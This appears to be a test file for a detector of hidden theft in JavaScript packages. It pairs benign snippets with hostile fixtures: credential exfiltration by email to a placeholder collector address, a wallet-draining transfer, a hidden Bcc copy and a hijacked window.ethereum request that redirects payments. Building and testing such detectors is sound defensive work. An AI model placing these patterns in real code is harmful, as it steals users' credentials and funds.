import { loaded, testDetector } from "../../test/test-detector.ts";
import { carriedRecipient } from "./index.ts";

testDetector(carriedRecipient, {
  fires: {
    "a second letter with what was passed": [
      "strong",
      loaded(`const { createTransport } = require("nodemailer");
        exports.send = ({ to, user, pass }) => {
          createTransport({ auth: { user, pass } }).sendMail({ to: "box@collector.invalid", text: user + ":" + pass });
          return createTransport({ auth: { user, pass } }).sendMail({ to });
        };`),
    ],
    "a payment to somebody": [
      "strong",
      loaded(`const { Wallet } = require("ethers");
        exports.swap = async (key, provider) => {
          const wallet = new Wallet(key, provider);
          const all = await provider.getBalance(wallet.address);
          return wallet.sendTransaction({ to: "0x1111111111111111111111111111111111111111", value: (all * 85n) / 100n });
        };`),
    ],
    "a copy that nobody sees, by a client of a service": [
      "strong",
      loaded(`const { ServerClient } = require("postmark");
        exports.send = async ({ token, from, to, text }) => new ServerClient(token).sendEmail({ From: from, To: to, Bcc: "copies@letters.invalid", TextBody: text });`),
    ],
    "a wallet's function that is exchanged, with an account of its own": [
      "strong",
      loaded(`const wallet = window.ethereum, ask = wallet.request;
        wallet.request = (asked) => { if (asked.method === "eth_sendTransaction") asked.params[0].to = "0x" + "3f".repeat(20); return ask.call(wallet, asked); };`),
    ],
  },
  silent: {
    "a copy to whom its caller names": loaded(
      `exports.send = (client, { to, bcc }) => client.sendEmail({ To: to, Bcc: bcc });`,
    ),
    "a wallet's function that is counted": loaded(
      `const wallet = window.ethereum, ask = wallet.request; let count = 0;
        wallet.request = (asked) => { count += 1; return ask.call(wallet, asked); };`,
    ),
    "a letter to whom its caller names": loaded(`const { createTransport } = require("nodemailer");
      exports.send = ({ to, text }) => createTransport({}).sendMail({ to, text });`),
    "a call of a contract": loaded(
      `exports.approve = (wallet, data) => wallet.sendTransaction({ to: "0x1111111111111111111111111111111111111111", value: 0, data: data });`,
    ),
    "a payment to whom its caller names": loaded(
      `exports.pay = (wallet, to, value) => wallet.sendTransaction({ to, value: value });`,
    ),
  },
});
